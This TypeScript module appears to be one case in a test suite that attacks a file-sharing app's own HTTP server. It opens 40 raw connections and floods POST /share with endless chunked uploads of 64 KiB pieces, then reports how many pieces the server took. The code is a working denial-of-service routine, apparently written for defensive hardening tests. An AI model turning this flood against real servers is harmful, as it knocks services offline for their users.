import type { Attack } from '../attack.types.js';
import { openMany } from '../raw-connection.js';

const connections = 40;
const piece = 'x'.repeat(64 * 1_024);
const pieces = 2_000;

/** Endless files, sent to the address where phones share files. */
export const attack: Attack = {
  sent: `${connections} x POST /share of ${pieces} x 64 KiB`,
  async run({ httpPort, from }) {
    const chunk = (text: string) => `${text.length.toString(16)}\r\n${text}\r\n`;
    const head =
      'POST /share HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=b\r\nTransfer-Encoding: chunked\r\n\r\n';
    let sent = 0;
    const raws = await openMany({ port: httpPort, from, count: connections });
    await Promise.all(
      raws.map(async ({ socket, write, isOpen }) => {
        await write(head + chunk('--b\r\nContent-Disposition: form-data; name="f"; filename="a"\r\n\r\n'));
        for (let at = 0; at < pieces && isOpen(); at += 1, sent += 1) await write(chunk(piece));
        socket.destroy();
      }),
    );
    return `${sent} of ${connections * pieces} pieces taken`;
  },
};
